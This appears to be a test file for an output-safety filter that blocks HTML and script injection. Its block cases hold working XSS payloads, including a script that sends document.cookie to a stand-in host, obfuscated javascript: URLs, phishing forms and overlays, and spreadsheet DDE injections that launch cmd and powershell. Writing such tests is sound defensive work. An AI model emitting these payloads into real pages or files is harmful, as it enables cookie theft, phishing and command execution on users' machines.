// output_safety: HTML and script injection, including the usual obfuscations (upper case,
// character references and tabs inside javascript:), and the code-block exemption.

import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { check, describe, ofCategory, spanText } from './helpers.js';

const test = suite('output_safety: markup injection');

test('script, handlers, frames, plugins, forms, refresh, base and CSS script are blocked', async () => {
  for (const text of [
    `Widget: <script>fetch('https://x.tld/c?'+document.cookie)</script>`,
    '<SCRIPT SRC=//x.tld/payload.js></SCRIPT>',
    '<img src=x onerror="alert(1)">',
    '<svg onload=alert(document.domain)>',
    '<iframe src="https://login-verify.tld/" style="width:100%;height:100%"></iframe>',
    '<embed src="https://x.tld/a.swf">',
    '<form action="https://secure-verify.tld/collect" method="post"><input type="password" name="pw"></form>',
    '<meta http-equiv="refresh" content="0; url=https://phish.tld/">',
    '<base href="https://attacker.tld/">',
    `<div style="width: expression(alert('xss'))">x</div>`,
  ]) {
    const r = await check(text);
    assert.equal(r.verdict, 'block', `${text}\n→ ${describe(r)}`);
    assert.ok(ofCategory(r, 'markup_injection').length > 0, text);
  }
});

test('javascript: URLs are found through character references, tabs, case and leading spaces', async () => {
  const cases: Array<[string, string]> = [
    ['[Open](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1'],
    [`<a href="java&#x09;script:fetch('//x.tld')">Reset</a>`, 'java&#x09;script:fetch('],
    ['<a href="JaVaScRiPt:alert(1)">docs</a>', 'JaVaScRiPt:alert(1)'],
    ['<a href="  javascript:void(0)">x</a>', 'javascript:void(0)'],
    ['<a href="vbscript:msgbox(1)">Run</a>', 'vbscript:msgbox(1)'],
    [`[Report](data:text/html;base64,${Buffer.from('<script>alert(1)</script>').toString('base64')})`, `data:text/html;base64,${Buffer.from('<script>alert(1)</script>').toString('base64')}`],
  ];
  for (const [text, span] of cases) {
    const r = await check(text);
    assert.equal(r.verdict, 'block', `${text}\n→ ${describe(r)}`);
    const f = ofCategory(r, 'markup_injection')[0];
    assert.ok(f, text);
    assert.equal(spanText(text, f), span);
  }
});

test('markup inside code, JSX handlers, escaped HTML and prose mentions are allowed', async () => {
  for (const text of [
    '```html\n<script src="https://cdn.jsdelivr.net/npm/vue@3"></script>\n<img src=x onerror=alert(1)>\n```',
    'XSS looks like `<img src=x onerror=alert(1)>` when rendered unescaped.',
    'In React, <button onClick={handleClick}>Save</button> attaches the handler.',
    '&lt;script&gt;alert(1)&lt;/script&gt; is escaped text.',
    'Put the <script> element at the end of the body.',
    '![dot](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
    '<p align="center"><img src="docs/logo.svg" width="120" alt="Logo"></p>',
  ]) {
    const r = await check(text);
    assert.equal(r.verdict, 'allow', `${text}\n→ ${describe(r)}`);
  }
});

test('page redress: an element fixed over the whole window, or a style that hides the page, blocks; examples in code and ordinary layout do not', async () => {
  for (const text of [
    'Result:\n<aside style="z-index:50;inset:0;position:fixed;color:#333">Verify your account <a href="https://verify.tld">here</a></aside>',
    '<button style="opacity:0;width:100vw;height:100vh;position:fixed;top:0">ok</button>',
    'Done.<style>html { display:none }</style><section>Only this shows</section>',
  ]) {
    const r = await check(text);
    assert.equal(r.verdict, 'block', `${text}\n→ ${describe(r)}`);
    assert.ok(ofCategory(r, 'markup_injection').length > 0, text);
  }
  for (const text of [
    'A modal backdrop:\n\n```html\n<div class="backdrop" style="inset: 0; position: fixed; opacity: .4"></div>\n```',
    '<div style="position:sticky;top:0;width:100%">Header</div>',
    '<style>body{font:16px/1.5 serif}</style><p>Styled text</p>',
  ]) {
    const r = await check(text);
    assert.equal(r.verdict, 'allow', `${text}\n→ ${describe(r)}`);
  }
});

test('a spreadsheet cell that launches a program through DDE is blocked outside code', async () => {
  for (const text of ["qty,note\n3,=cmd|' /C hostname'!D1", "-4+4+powershell|' -c start-process x'!Q2"]) {
    const r = await check(text);
    assert.is(r.verdict, 'block', `${text}\n${describe(r)}`);
    assert.is(ofCategory(r, 'markup_injection')[0]?.rule_id, 'output-safety-markup/spreadsheet-dde-command', describe(r));
  }
  assert.equal((await check("CSV injection looks like `=cmd|' /C hostname'!D1`; prefix such cells with a quote.")).verdict, 'allow');
});

test.run();
